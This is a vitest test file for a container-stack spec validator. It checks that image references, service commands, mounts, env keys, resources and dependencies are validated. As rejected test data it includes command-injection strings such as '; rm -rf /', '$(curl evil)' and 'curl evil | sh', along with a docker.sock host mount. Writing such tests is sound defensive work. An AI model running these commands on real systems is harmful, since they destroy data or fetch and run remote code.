import { describe, expect, it } from 'vitest';
import { normaliseImage, parseImageReference } from './image-ref.js';
import { ServiceSpec, type ServiceSpecInput, StackSpec } from './model.js';

const base: ServiceSpecInput = { name: 'web', image: '127.0.0.1:5000/shop/web:1.2' };
const ok = (patch: Record<string, unknown>) => ServiceSpec.safeParse({ ...base, ...patch }).success;
const DIGEST = `sha256:${'a'.repeat(64)}`;

describe('image references', () => {
  it('accepts full references with host, port, tag and digest', () => {
    for (const ref of [
      '127.0.0.1:5000/app',
      'localhost:5000/a/b/c:v1.0_rc-2',
      'ghcr.io/acme/api:latest',
      `registry.example.com/x@${DIGEST}`,
      `registry.example.com/x:1@${DIGEST}`,
      '[::1]:5000/app:1',
      'reg.io/a__b/c.d/e---f:1',
    ]) {
      expect(parseImageReference(ref), ref).toBeDefined();
    }
    expect(parseImageReference(`ghcr.io/acme/api:2@${DIGEST}`)).toEqual({
      registry: 'ghcr.io',
      path: 'acme/api',
      tag: '2',
      digest: DIGEST,
    });
  });

  it('refuses hostile and malformed references', () => {
    for (const ref of [
      'nginx', // no registry: would go to Docker Hub
      'library/nginx:1',
      'ghcr.io/Acme/api', // uppercase path
      'ghcr.io/acme/api:1 ; rm -rf /',
      'ghcr.io/acme/api:1\n',
      'ghcr.io/acme api',
      '-ghcr.io/acme/api',
      'ghcr.io/-acme/api',
      'ghcr.io/acme/api:-1',
      'ghcr.io/acme/api@sha256:abc',
      `ghcr.io/acme/api@md5:${'a'.repeat(32)}`,
      'ghcr.io/acme//api',
      'ghcr.io:99999/acme',
      '$(curl evil)/x',
      `ghcr.io/${'a'.repeat(300)}`,
      'ghcr.io/',
      '',
    ]) {
      expect(parseImageReference(ref), ref).toBeUndefined();
      expect(ok({ image: ref }), ref).toBe(false);
    }
  });

  it('makes :latest explicit and expands familiar short names only on request', () => {
    expect(ServiceSpec.parse({ ...base, image: '127.0.0.1:5000/app' }).image).toBe('127.0.0.1:5000/app:latest');
    expect(ServiceSpec.parse({ ...base, image: `r.io/app@${DIGEST}` }).image).toBe(`r.io/app@${DIGEST}`);
    expect(normaliseImage('nginx')).toBe('docker.io/library/nginx');
    expect(normaliseImage('me/app:1')).toBe('docker.io/me/app:1');
    expect(normaliseImage('127.0.0.1:5000/app')).toBe('127.0.0.1:5000/app');
  });
});

describe('service spec', () => {
  it('fills in safe defaults', () => {
    const s = ServiceSpec.parse(base);
    expect(s.replicas).toBe(1);
    expect(s.update).toMatchObject({ order: 'start-first', failureAction: 'rollback', parallelism: 1 });
    expect(s.restart.condition).toBe('any');
    expect(s.resources.limits).toEqual({ cpuMillis: 500, memoryMiB: 256, pids: 512 });
    expect(s.resources.reservations).toEqual({ cpuMillis: 0, memoryMiB: 0 });
    expect(s.init).toBe(true);
    expect(s.env).toEqual({});
  });

  it('takes commands only as argument arrays, never as shell strings', () => {
    expect(ok({ command: ['node', 'server.js', '--port=8080'] })).toBe(true);
    expect(ok({ command: 'node server.js && curl evil | sh' })).toBe(false);
    expect(ok({ entrypoint: '/bin/sh -c "x"' })).toBe(false);
    expect(ok({ command: ['a\u0000b'] })).toBe(false);
    expect(ok({ healthcheck: { type: 'command', command: 'curl -f localhost' } })).toBe(false);
  });

  it('checks env keys', () => {
    expect(ok({ env: { DATABASE_URL: 'postgres://x', _private: '1', a1: '' } })).toBe(true);
    for (const key of ['1ABC', 'A-B', 'A B', 'A=B', '', 'ä']) expect(ok({ env: { [key]: 'x' } }), key).toBe(false);
    expect(ok({ env: 'A=1' })).toBe(false);
  });

  it('refuses bind mounts, host paths and other host-reaching options', () => {
    expect(ok({ volumes: [{ source: 'data', target: '/var/lib/data' }] })).toBe(true);
    expect(ok({ volumes: [{ source: '/var/run/docker.sock', target: '/var/run/docker.sock' }] })).toBe(false);
    expect(ok({ volumes: [{ source: './data', target: '/data' }] })).toBe(false);
    expect(ok({ volumes: [{ source: '~/data', target: '/data' }] })).toBe(false);
    expect(ok({ volumes: [{ type: 'bind', source: 'data', target: '/data' }] })).toBe(false);
    expect(ok({ volumes: [{ source: 'data', target: 'relative' }] })).toBe(false);
    expect(ok({ volumes: [{ source: 'data', target: '/data/../etc' }] })).toBe(false);
    expect(ok({ volumes: [{ source: 'data', target: '/proc/sys' }] })).toBe(false);
    expect(ok({ privileged: true })).toBe(false);
    expect(ok({ devices: ['/dev/fuse'] })).toBe(false);
    // host access has one place, `host`, which only the compose policy fills (after a dedicated cluster's relaxation)
    expect(ok({ host: { bindMounts: [{ source: '/srv/data', target: '/data' }] } })).toBe(true);
    expect(ok({ host: { bindMounts: [{ source: '../etc', target: '/data' }] } })).toBe(false);
    expect(ok({ host: { network: true }, aliases: ['db'] })).toBe(false);
    expect(ok({ labels: { 'wharf.tenant': 'someone-else' } })).toBe(false);
  });

  it('keeps resources, replicas and ports in range', () => {
    expect(ok({ resources: { limits: { cpuMillis: 2000, memoryMiB: 1024, pids: 256 } } })).toBe(true);
    for (const limits of [
      { cpuMillis: 5 },
      { cpuMillis: 1e9 },
      { memoryMiB: 1 },
      { memoryMiB: 1.5 },
      { pids: 0 },
      { cpuMillis: -1 },
    ]) {
      expect(ok({ resources: { limits } }), JSON.stringify(limits)).toBe(false);
    }
    expect(ok({ resources: { limits: { cpuMillis: 100 }, reservations: { cpuMillis: 200 } } })).toBe(false);
    expect(ok({ replicas: 0 })).toBe(true);
    expect(ok({ replicas: 101 })).toBe(false);
    expect(ok({ replicas: -1 })).toBe(false);
    for (const containerPort of [0, 65536, 1.5]) expect(ok({ ports: [{ containerPort }] })).toBe(false);
    expect(ok({ ports: [{ containerPort: 80, protocol: 'sctp' }] })).toBe(false);
    expect(
      ok({
        ports: [
          { containerPort: 80, http: true },
          { containerPort: 81, http: true },
        ],
      }),
    ).toBe(false);
    expect(ok({ ports: [{ containerPort: 53, protocol: 'udp', http: true }] })).toBe(false);
    expect(ok({ ports: [{ containerPort: 80 }, { containerPort: 80 }] })).toBe(false);
    expect(ok({ ports: [{ containerPort: 53 }, { containerPort: 53, protocol: 'udp' }] })).toBe(true);
  });

  it('validates names, health checks and placement', () => {
    for (const name of ['Web', 'web_1', '1web', 'web-', 'a--b', 'a'.repeat(64), '']) expect(ok({ name }), name).toBe(false);
    expect(ok({ healthcheck: { type: 'http', path: '/healthz' } })).toBe(false); // no HTTP port
    const http = { ports: [{ containerPort: 8080, http: true }] };
    expect(ok({ ...http, healthcheck: { type: 'http', path: '/healthz?x=1' } })).toBe(true);
    expect(ok({ ...http, healthcheck: { type: 'http', path: 'healthz' } })).toBe(false);
    expect(ok({ ...http, healthcheck: { type: 'http', path: '/a b' } })).toBe(false);
    expect(ok({ ...http, healthcheck: { type: 'http', path: '/', intervalMs: 10 } })).toBe(false);
    expect(ok({ placement: { constraints: ['node.labels.region == eu', 'node.role!=manager'] } })).toBe(true);
    expect(ok({ placement: { constraints: ['node.labels.x == y; rm -rf /'] } })).toBe(false);
    expect(ok({ placement: { maxReplicasPerNode: 1 } })).toBe(true);
  });
});

describe('stack spec', () => {
  it('resolves references to stack objects', () => {
    const stack = {
      services: [{ ...base, volumes: [{ source: 'data', target: '/data' }], secrets: { db: 'db' }, networks: ['back'] }],
      volumes: { data: {} },
      secrets: { db: {} },
      networks: { back: { internal: true } },
    };
    expect(StackSpec.safeParse(stack).success).toBe(true);
    expect(StackSpec.safeParse({ ...stack, volumes: {} }).success).toBe(false);
    expect(StackSpec.safeParse({ ...stack, secrets: {} }).success).toBe(false);
    expect(StackSpec.safeParse({ ...stack, networks: {} }).success).toBe(false);
    expect(StackSpec.safeParse({ services: [base, base] }).success).toBe(false);
    expect(
      StackSpec.safeParse({ services: [base], volumes: { data: { driver: 'local', driverOpts: { o: 'bind' } } } }).success,
    ).toBe(false);
  });

  it('checks dependencies: known services, no cycle (named), not on itself', () => {
    const svc = (name: string, ...deps: string[]) => ({ ...base, name, dependsOn: deps.map((service) => ({ service })) });
    expect(StackSpec.safeParse({ services: [svc('web', 'api'), svc('api', 'db'), svc('db')] }).success).toBe(true);
    expect(StackSpec.safeParse({ services: [svc('web', 'nope')] }).success).toBe(false);
    expect(StackSpec.safeParse({ services: [svc('web', 'web')] }).success).toBe(false);
    const cycle = StackSpec.safeParse({ services: [svc('web', 'api'), svc('api', 'db'), svc('db', 'web')] });
    expect(cycle.success).toBe(false);
    expect(cycle.error?.issues.map((i) => i.message)).toContain('dependency cycle: web → api → db → web');
  });
});
